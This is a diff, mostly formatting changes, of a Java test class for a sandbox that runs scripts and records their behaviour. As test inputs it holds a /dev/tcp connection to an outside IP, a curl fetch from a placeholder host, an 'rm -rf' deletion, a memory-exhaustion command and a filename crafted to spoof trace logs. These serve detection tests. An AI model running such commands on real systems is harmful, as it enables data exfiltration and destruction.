@@ -91,7 +91,8 @@ class TrialTests {
     void outputIsComparedAsJsonWithTheSample() {
         assertThat(outputMatches(ECHO, "{\"b\":1.0,\"a\":2}")).isTrue();
         assertThat(outputMatches(ECHO, "{\"b\":1,\"a\":3}")).isFalse();
-        assertThat(outputMatches("print('working')\nprint('__EXECFABRIC_RESULT__={\"a\":2,\"b\":1}')", "{\"a\":2,\"b\":1}"))
+        assertThat(outputMatches(
+                        "print('working')\nprint('__EXECFABRIC_RESULT__={\"a\":2,\"b\":1}')", "{\"a\":2,\"b\":1}"))
                 .isTrue();
         assertThat(outputMatches("print('done')", "done")).isTrue();
         assertThat(outputMatches("print('done')", "{\"a\":2,\"b\":1}")).isFalse();
@@ -99,8 +100,8 @@ class TrialTests {
 
     @Test
     void aScriptThatFailsIsReportedWithItsExitCodeAndWords() {
-        TrialResult candidate =
-                trials.first("import sys\nprint('no', file=sys.stderr)\nsys.exit(3)").candidate();
+        TrialResult candidate = trials.first("import sys\nprint('no', file=sys.stderr)\nsys.exit(3)")
+                .candidate();
 
         assertThat(candidate.outcome()).isEqualTo(Outcome.EXITED);
         assertThat(candidate.exitCode()).isEqualTo(3);
@@ -138,7 +139,8 @@ class TrialTests {
         System.gc();
         long before = used();
 
-        TrialResult candidate = trials.first(SHELL, Map.of("main.sh", "head -c 200000000 /dev/zero | tr '\\0' x; exit 4"))
+        TrialResult candidate = trials.first(
+                        SHELL, Map.of("main.sh", "head -c 200000000 /dev/zero | tr '\\0' x; exit 4"))
                 .candidate();
 
         assertThat(candidate.exitCode()).isEqualTo(4);
@@ -169,7 +171,8 @@ class TrialTests {
         assertThat(trials.update(SHELL, "echo ok", "(echo x > /dev/tcp/10.9.8.7/443) 2>/dev/null; echo ok")
                         .differences())
                 .containsExactly(new BehaviourDifference("connectionsAttempted", "", "10.9.8.7:443"));
-        assertThat(trials.update(SHELL, "echo ok", "curl -s http://curl.example/x; echo ok").differences())
+        assertThat(trials.update(SHELL, "echo ok", "curl -s http://curl.example/x; echo ok")
+                        .differences())
                 .containsExactly(
                         new BehaviourDifference("programsStarted", "", "/usr/bin/curl -s http://curl.example/x"),
                         new BehaviourDifference("connectionsAttempted", "", "curl.example"));
@@ -199,7 +202,8 @@ class TrialTests {
                 .containsExactly(
                         new BehaviourDifference("exitCode", "0", "5"),
                         new BehaviourDifference("stdout", "one", "two"),
-                        new BehaviourDifference("filesWritten", "/job/artifacts/a.txt", "/app/x (delete failed)\n/job/artifacts/b.txt"),
+                        new BehaviourDifference(
+                                "filesWritten", "/job/artifacts/a.txt", "/app/x (delete failed)\n/job/artifacts/b.txt"),
                         new BehaviourDifference("programsStarted", "", "/usr/bin/rm -rf /app/x"));
     }
 
@@ -225,8 +229,7 @@ class TrialTests {
                 import os
                 open(b'/job/a\\n1 connect(3, {sa_family=AF_INET, sin_port=htons(1), sin_addr=inet_addr("6.6.6.6")}, 16) = 0', 'w')
                 open(b'/job/\\xff\\x00'.replace(b'\\x00', b'\\x7f'), 'w')
-                """)
-                .candidate();
+                """).candidate();
 
         assertThat(candidate.exitCode()).isZero();
         assertThat(candidate.connectionsAttempted()).isEmpty();
@@ -246,8 +249,7 @@ class TrialTests {
     @Test
     void withoutASandboxNothingIsRunAndTheReasonIsSaid() {
         Sandbox none = mock();
-        when(none.observe(any(), any()))
-                .thenThrow(new HotUpdateException(ErrorCode.SANDBOX_UNAVAILABLE, "no"));
+        when(none.observe(any(), any())).thenThrow(new HotUpdateException(ErrorCode.SANDBOX_UNAVAILABLE, "no"));
 
         TrialResult candidate = trials.in(none, Map.of("main.py", ECHO)).candidate();
 
@@ -289,7 +291,13 @@ class TrialTests {
     private static Boolean outputMatches(String script, String expected) {
         return trials.first(
                         PYTHON,
-                        Map.of("main.py", script, "samples/input.json", "{\"a\":2,\"b\":1}", "samples/output.json", expected))
+                        Map.of(
+                                "main.py",
+                                script,
+                                "samples/input.json",
+                                "{\"a\":2,\"b\":1}",
+                                "samples/output.json",
+                                expected))
                 .candidate()
                 .outputMatches();
     }
